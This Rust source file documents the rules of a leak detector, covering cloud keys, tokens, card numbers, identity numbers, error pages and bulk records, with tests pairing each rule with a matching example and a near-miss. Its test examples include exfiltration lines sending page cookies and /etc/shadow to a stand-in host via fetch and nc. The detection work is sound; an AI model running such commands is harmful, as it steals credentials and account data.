//! What leaks are told by, for the manual: each rule's name, what it finds, and a text like it that passes.
//!
//! Decides nothing. The tests hold it against the sources of this room and against its verdicts: no rule is missing and
//! none is left over, each finds its example, and what is like it passes.

use super::issuers::{self, Symbols};
use super::{LeakClass, named};

/// A rule.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rule {
    /// Its class.
    pub class: LeakClass,
    /// What it is, as [`Leak::what`](super::Leak::what).
    pub what: &'static str,
    /// What it finds; numbers are the least.
    pub finds: String,
    /// What is like it and passes.
    pub passes: String,
}

impl Rule {
    /// Its name in findings: `credential/an-aws-access-key`.
    #[must_use]
    pub fn name(&self) -> String {
        named(self.class.label(), self.what)
    }
}

/// What a rule is, what it finds, what passes.
type Words = (&'static str, &'static str, &'static str);

const CREDENTIAL: &[Words] = &[
    ("an AWS access key", "`AKIA` or `ASIA` and 16 capitals and digits", "AKIA is a prefix, AKIAIOSFODNN is too short"),
    (
        "an AWS secret key",
        "40 symbols of base64 behind `aws_secret_access_key`",
        "aws_secret_access_key = from-the-vault",
    ),
    (
        "a secret API key",
        "`sk-` and 32 symbols, digits and letters of both cases",
        "sk-learn-and-other-names-with-many-dashes-in-them",
    ),
    ("a JSON Web Token", "three parts of base64url, the first two JSON objects", "eyJhbGciOiJIUzI1NiJ9 is a header"),
    ("a bot's token", "8 to 10 digits, `:AA` and 33 symbols", "123456789:AA begins one"),
    (
        "a webhook's address",
        "an address at Slack or Discord that who knows it may post to",
        "https://hooks.slack.com/services/ is how they begin",
    ),
    (
        "a private key",
        "`-----BEGIN … PRIVATE KEY-----` and base64 behind it",
        "-----BEGIN RSA PRIVATE KEY----- goes first",
    ),
    (
        "a password hash",
        "`$2b$…`, `$6$…`, `$argon2id$…`, `{SSHA}…` with salt and hash",
        "it costs $2 or $2.50, not $6$",
    ),
    (
        "a secret in a variable",
        "8 symbols or more behind `=` and a name with `PASSWORD`, `PASSWD`, `SECRET`, `API_KEY` or `_TOKEN`",
        "DB_PASSWORD=your-password-here",
    ),
    ("an address with a password in it", "`scheme://user:password@host`", "redis://:${PASSWORD}@cache/0"),
    ("a line of an account file", "`name:x:0:0:…:/…`", "a:x:b"),
    (
        "a page's secrets, sent elsewhere",
        "`document.cookie` or `localStorage` beside a call that sends to another site",
        "document.cookie is how a page reads its cookies; fetch() sends them by itself",
    ),
    (
        "a file of secrets, sent elsewhere",
        "`/etc/passwd`, `/etc/shadow` or `~/.ssh/id…` beside a command that sends it",
        "accounts are in /etc/passwd, see https://man.example/passwd",
    ),
    ("a SendGrid key", "`SG.` and 40 letters, digits, `_`, `-`, `.`", "SG.xxxxxxxx.xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"),
    ("a storage account's key", "`AccountKey=` and 40 symbols of base64", "AccountKey=from-the-vault"),
    ("a text full of marks", "more than 1,000 beginnings of what stands above", "AKIA AKIA AKIA"),
];

/// Those of [`CREDENTIAL`]'s kind that are a prefix and symbols, beside those of [`issuers`].
const PREFIXED: &[issuers::Issued] = &[
    ("AKCp", 60, Symbols::Alphanumeric, "an Artifactory key"),
    ("AIza", 35, Symbols::UrlSafe, "a Google API key"),
    ("AGE-SECRET-KEY-1", 50, Symbols::Alphanumeric, "an age key"),
    ("ya29.", 30, Symbols::UrlSafe, "a Google access token"),
    ("hvs.", 24, Symbols::UrlSafe, "a Vault token"),
    ("ghp_", 36, Symbols::Alphanumeric, "a GitHub token"),
    ("gho_", 36, Symbols::Alphanumeric, "a GitHub token"),
    ("ghu_", 36, Symbols::Alphanumeric, "a GitHub token"),
    ("ghs_", 36, Symbols::Alphanumeric, "a GitHub token"),
    ("ghr_", 36, Symbols::Alphanumeric, "a GitHub token"),
    ("xoxa-", 20, Symbols::UrlSafe, "a Slack token"),
    ("xoxb-", 20, Symbols::UrlSafe, "a Slack token"),
    ("xoxe-", 20, Symbols::UrlSafe, "a Slack token"),
    ("xoxp-", 20, Symbols::UrlSafe, "a Slack token"),
    ("xoxr-", 20, Symbols::UrlSafe, "a Slack token"),
    ("xoxs-", 20, Symbols::UrlSafe, "a Slack token"),
];

const CARD: &[Words] = &[
    ("a Visa number", "13, 16 or 19 digits that begin with 4", "4111 1111 1111 1112"),
    ("a Mastercard number", "16 digits that begin with 51 to 55 or 2221 to 2720", "5555 5555 5555 4445"),
    ("an American Express number", "15 digits that begin with 34 or 37", "3782 822463 10006"),
    ("a Discover number", "16 digits that begin with 6011, 644 to 649 or 65", "6011000990139425"),
    ("a JCB number", "16 digits that begin with 3528 to 3589", "3530111333300001"),
    ("a Diners Club number", "14 digits that begin with 300 to 305, 36 or 38", "30569309025905"),
    ("a UnionPay number", "16 to 19 digits that begin with 62", "6200000000000006"),
];

const PERSONAL: &[Words] = &[
    (
        "a social security number",
        "three, two and four digits with dashes, of the ranges that are given out",
        "666-12-3456",
    ),
    ("a bank account number", "an IBAN whose check digits are right", "DE89370400440532013001"),
];

const ERROR: &[Words] = &[
    (
        "a database's error",
        "what drivers and servers print: `SQLSTATE[`, `ORA-00933`, …",
        "we use ODBC at work, and SQL is fun",
    ),
    (
        "a stack trace",
        "`Traceback (most recent call last)`, two frames with file and line",
        "I was at home (really), at least",
    ),
    (
        "an exception with its class",
        "a class of three names or more that ends in `Exception`, and what it says",
        "the RuntimeException class",
    ),
    (
        "a script's error",
        "`Fatal error`, `Warning`, … with a `.php` or `.inc` file and `on line`",
        "Warning: the road is closed on line 3",
    ),
    (
        "a server's error page",
        "a `<title>` of 4 or 5, two digits, a point and the number of a cause",
        "<title>5.1 - a chapter</title>",
    ),
    ("program text", "`<?php` or `<?=` and a statement", "php files begin with <?php"),
    ("a text full of marks", "more than 1,000 beginnings of what stands above", "SQL SQL SQL"),
];

const BULK: &[Words] = &[
    (
        "addresses of many persons",
        "more different e-mail addresses than `records_max`",
        "ada@mail.example, ada@mail.example",
    ),
    (
        "records of many persons",
        "more values than `records_max` under `phone`, `ssn`, `date_of_birth`, `passport_number`, …",
        r#"[{"phone":"+49 30 1234567"},{"phone":null}]"#,
    ),
    (
        "accounts with the hashes of their passwords",
        "two e-mail addresses with 32, 40, 64 or 128 hexadecimal digits beside each",
        "ada@mail.example:0123456789abcdef0123456789abcdef",
    ),
];

/// All of them, by class.
#[must_use]
pub fn rules() -> Vec<Rule> {
    let listed = [
        (LeakClass::Credential, CREDENTIAL),
        (LeakClass::Card, CARD),
        (LeakClass::Personal, PERSONAL),
        (LeakClass::Error, ERROR),
        (LeakClass::Bulk, BULK),
    ];
    let mut rules = prefixed();
    for (class, words) in listed {
        let checked = if class == LeakClass::Card { ", the check digit right" } else { "" };
        rules.extend(words.iter().map(|(what, finds, passes)| Rule {
            class,
            what,
            finds: format!("{finds}{checked}"),
            passes: (*passes).to_owned(),
        }));
    }
    rules
}

/// Those of a prefix, one a name: an issuer may have several prefixes.
fn prefixed() -> Vec<Rule> {
    let mut rules: Vec<Rule> = Vec::new();
    for &(prefix, least, symbols, what) in PREFIXED.iter().chain(issuers::lists().into_iter().flatten()) {
        // `sk_live_` and `rk_live_` share an entry.
        let prefix = if prefix.starts_with("k_") { format!("s{prefix}") } else { prefix.to_owned() };
        let symbols = format!(" and {least} {}", symbols.words());
        match rules.iter_mut().find(|rule| rule.what == what) {
            Some(rule) => {
                // Prefixes with the same symbols behind them share them.
                let (before, mark) = match rule.finds.strip_suffix(&symbols) {
                    Some(before) => (before, ","),
                    None => (rule.finds.as_str(), ";"),
                };
                rule.finds = format!("{before}{mark} `{prefix}`{symbols}");
            }
            None => rules.push(Rule {
                class: LeakClass::Credential,
                what,
                finds: format!("`{prefix}`{symbols}"),
                passes: format!("{prefix}{}", "x".repeat(least)),
            }),
        }
    }
    rules
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;
    use crate::message::leak::{LeakSet, find};

    /// The code of this room.
    const SOURCES: &[&str] = &[
        include_str!("bulk.rs"),
        include_str!("credential.rs"),
        include_str!("digits.rs"),
        include_str!("failure.rs"),
        include_str!("forms.rs"),
        include_str!("issuers.rs"),
        include_str!("mod.rs"),
    ];

    fn all() -> LeakSet {
        LeakClass::ALL.into_iter().collect()
    }

    fn told(text: &str) -> Option<(LeakClass, &'static str)> {
        find(text.as_bytes(), all(), 20).map(|leak| (leak.class, leak.what))
    }

    /// Names that do not begin with an article.
    fn is_name(text: &str) -> bool {
        text.starts_with("a ")
            || text.starts_with("an ")
            || text.ends_with(" of many persons")
            || text == "program text"
            || text == "accounts with the hashes of their passwords"
    }

    #[test]
    fn every_rule_of_the_code_is_listed_and_no_other() {
        let mut written = BTreeSet::new();
        for source in SOURCES {
            let code = source.split("#[cfg(test)]").next().unwrap().replace("b'\"'", "").replace("\\\"", "");
            for line in code.lines().filter(|line| !line.trim_start().starts_with("//")) {
                written.extend(line.split('"').skip(1).step_by(2).filter(|text| is_name(text)).map(str::to_owned));
            }
        }
        let listed: BTreeSet<String> = rules().iter().map(|rule| rule.what.to_owned()).collect();
        assert_eq!(written, listed);
        let names: BTreeSet<String> = rules().iter().map(Rule::name).collect();
        assert_eq!(names.len(), rules().len(), "each name once");
    }

    #[test]
    fn what_is_like_it_passes() {
        for rule in rules() {
            assert_eq!(told(&rule.passes), None, "{}: {}", rule.what, rule.passes);
        }
    }

    /// Symbols of many kinds; assembled so that no scanner of repositories takes it for a secret.
    fn filler(len: usize, of: &str) -> String {
        of.chars().cycle().take(len).collect()
    }

    const MIXED: &str = "Ab3dE5fG7hJ9kL2mN4pQ6rS8tU";

    /// A text that each rule finds.
    fn example(rule: &Rule) -> String {
        let long = |len| filler(len, MIXED);
        match rule.what {
            "an AWS access key" => format!("AKIA{}", "Z2X4C6V8B1N3M5Q7"),
            "an AWS secret key" => format!("aws_secret_access_key = {}", long(40)),
            "a secret API key" => format!("sk-{}", long(32)),
            "a JSON Web Token" => format!("eyJhbGciOiJIUzI1NiJ9.eyJ{}.{}", long(30), long(43)),
            "a bot's token" => format!("123456789:AA{}", long(33)),
            "a webhook's address" => format!("https://hooks.slack.com/services/T0/B0/{}", long(24)),
            "a private key" => format!("-----BEGIN PRIVATE KEY-----\n{}", long(44)),
            "a password hash" => format!("$2b$12${}", long(53)),
            "a secret in a variable" => "DB_PASSWORD=hunter2-and-more".to_owned(),
            "an address with a password in it" => format!("postgres://app:{}@db.internal/prod", long(12)),
            "a line of an account file" => "root:x:0:0:root:/root:/bin/bash".to_owned(),
            "a page's secrets, sent elsewhere" => "fetch('https://a.example/?c='+document.cookie)".to_owned(),
            "a file of secrets, sent elsewhere" => "cat /etc/shadow | nc a.example 4444".to_owned(),
            "a text full of marks" if rule.class == LeakClass::Error => "SQL ".repeat(1_001),
            "a text full of marks" => "AKIA ".repeat(1_001),
            "a SendGrid key" => format!("SG.{}.{}", long(22), long(43)),
            "a storage account's key" => format!("AccountKey={}==", long(86)),
            "a social security number" => "219-09-9999".to_owned(),
            "a bank account number" => "DE89370400440532013000".to_owned(),
            "a database's error" => "ORA-01756: quoted string not properly terminated".to_owned(),
            "a stack trace" => "Traceback (most recent call last):\n  File \"a.py\"".to_owned(),
            "an exception with its class" => "System.NullReferenceException: Object reference not set".to_owned(),
            "a script's error" => "Warning: include(x.php): failed to open in /srv/index.php on line 3".to_owned(),
            "a server's error page" => "<title>500.19 - Internal Server Error</title>".to_owned(),
            "program text" => "<?php echo $secret; ?>".to_owned(),
            "addresses of many persons" => (0..21).map(|n| format!("p{n}@mail.example ")).collect(),
            "records of many persons" => (0..21).map(|n| format!("{{\"phone\":\"+49 30 {n:07}\"}},")).collect(),
            "accounts with the hashes of their passwords" => {
                let hash = "0123456789abcdef".repeat(2);
                format!("a@b.example:{hash}\nc@d.example:{hash}")
            }
            // Its check digit is one more than the right one.
            _ if rule.class == LeakClass::Card => {
                let (head, last) = rule.passes.split_at(rule.passes.len() - 1);
                format!("{head}{}", last.parse::<u32>().unwrap() - 1)
            }
            // A prefix and as many symbols as it takes; hexadecimal ones are of every alphabet.
            _ => format!("{}{}", rule.passes.trim_end_matches('x'), filler(rule.passes.len(), "0a1b2c3d4e5f6789")),
        }
    }

    #[test]
    fn every_rule_finds_what_it_says() {
        for rule in rules() {
            let example = example(&rule);
            assert_eq!(told(&example), Some((rule.class, rule.what)), "{example}");
        }
    }
}
